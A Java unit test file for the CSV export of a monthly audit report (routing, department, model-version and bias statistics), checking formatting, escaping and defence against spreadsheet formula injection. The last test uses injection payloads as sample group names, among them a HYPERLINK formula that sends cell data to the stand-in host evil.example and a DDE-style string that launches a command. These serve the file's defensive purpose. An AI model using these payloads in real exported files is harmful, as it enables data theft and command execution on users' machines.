package io.triage.audit.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.time.Instant;
import java.util.List;

import org.junit.jupiter.api.Test;
import tools.jackson.databind.MappingIterator;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;

class ReportCsvTests {

    static MonthlyReport report(List<GroupStats> departments, List<BiasCheck> bias) {
        return new MonthlyReport("2026-11", Instant.parse("2026-12-01T00:00:00Z"), 20, 18, 0.1, 14.0 / 18,
                List.of(new GroupStats("RULES", 3, 0.15, 0.0, 3, 1.0), new GroupStats("ML", 17, 0.85, 2.0 / 17, 15,
                        null)),
                departments, List.of(new GroupStats("v3", 20, 1.0, 0.1, 18, 0.77777)), bias, 0.1, 5);
    }

    @Test
    void normalDataIsWrittenWithOnlyTheFlaggedGroupMarked() {
        MonthlyReport report = report(List.of(new GroupStats("billing", 12, 0.6, 0.0, 11, 0.9090909)),
                List.of(new BiasCheck("channel", List.of(new GroupStats("chat", 10, 0.5, 0.2, 8, 0.5),
                        new GroupStats("email", 10, 0.5, 0.0, 10, 0.9)), 0.4, 0.2, true, List.of("gap"),
                        List.of(new GroupGap("chat", 8, 0.5, 0.2778, true), new GroupGap("email", 10, 0.9, -0.1222,
                                false)), List.of("chat"))));

        assertThat(ReportFormats.csv(report)).isEqualTo("""
                section,group,decisions,share,abstention_rate,judged,accuracy,flagged
                routing_method,"RULES",3,0.1500,0.0000,3,1.0000,false
                routing_method,"ML",17,0.8500,0.1176,15,,false
                department,"billing",12,0.6000,0.0000,11,0.9091,false
                model_version,"v3",20,1.0000,0.1000,18,0.7778,false
                bias:channel,"chat",10,0.5000,0.2000,8,0.5000,true
                bias:channel,"email",10,0.5000,0.0000,10,0.9000,false
                """);
    }

    @Test
    void aReportWithoutGroupsIsTheHeaderAlone() {
        MonthlyReport empty = new MonthlyReport("2026-11", Instant.EPOCH, 0, 0, 0, null, List.of(), List.of(),
                List.of(), List.of(), 0.1, 5);

        assertThat(ReportFormats.csv(empty))
                .isEqualTo("section,group,decisions,share,abstention_rate,judged,accuracy,flagged\n");
    }

    @Test
    void groupsWithCommasQuotesAndLineBreaksAreEscapedAndReadBack() throws IOException {
        String awkward = "Sales, \"EMEA\"\nand more";
        MonthlyReport report = report(List.of(new GroupStats(awkward, 12, 0.6, 0.0, 11, 0.5)), List.of());

        String csv = ReportFormats.csv(report);

        assertThat(csv).contains("department,\"Sales, \"\"EMEA\"\"\nand more\",12,0.6000,0.0000,11,0.5000,false\n");
        CsvMapper reader = CsvMapper.builder().enable(CsvReadFeature.WRAP_AS_ARRAY).build();
        try (MappingIterator<String[]> rows = reader.readerFor(String[].class).readValues(new StringReader(csv))) {
            List<String[]> all = rows.readAll();
            assertThat(all).hasSize(5);
            assertThat(all.get(3)).containsExactly("department", awkward, "12", "0.6000", "0.0000", "11", "0.5000",
                    "false");
        }
    }

    @Test
    void groupsThatASpreadsheetWouldRunAsAFormulaAreWrittenAsTextWithALeadingQuote() throws IOException {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
        MonthlyReport report = report(List.of(new GroupStats(formula, 12, 0.6, 0.0, 11, 0.5),
                new GroupStats("+1+cmd|' /C calc'!A0", 1, 0.1, 0.0, 1, 1.0), new GroupStats("-2+3", 1, 0.1, 0.0, 1,
                        1.0), new GroupStats("@SUM(A1:A9)", 1, 0.1, 0.0, 1, 1.0),
                new GroupStats("\t=1+1", 1, 0.1, 0.0, 1, 1.0), new GroupStats("\r=1+1", 1, 0.1, 0.0, 1, 1.0)),
                List.of(new BiasCheck("segment", List.of(new GroupStats("=1+1", 10, 1.0, 0.0, 8, 0.5)), 0.5, 0.0,
                        true, List.of("gap"), List.of(new GroupGap("=1+1", 8, 0.5, 0.3, true)), List.of("=1+1"))));

        String csv = ReportFormats.csv(report);

        assertThat(csv).contains("department,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",12,")
                .contains("department,\"'+1+cmd|' /C calc'!A0\",1,").contains("department,\"'-2+3\",1,")
                .contains("department,\"'@SUM(A1:A9)\",1,").contains("department,\"'\t=1+1\",1,")
                .contains("department,\"'\r=1+1\",1,").contains("bias:segment,\"'=1+1\",10,1.0000,0.0000,8,0.5000,true\n");
        CsvMapper reader = CsvMapper.builder().enable(CsvReadFeature.WRAP_AS_ARRAY).build();
        try (MappingIterator<String[]> rows = reader.readerFor(String[].class).readValues(new StringReader(csv))) {
            List<String> groups = rows.readAll().stream().skip(1).map(row -> row[1]).toList();
            assertThat(groups).hasSize(10).allSatisfy(group -> assertThat(group).doesNotStartWith("=").doesNotStartWith("+")
                            .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t")
                            .doesNotStartWith("\r"));
        }
    }
}
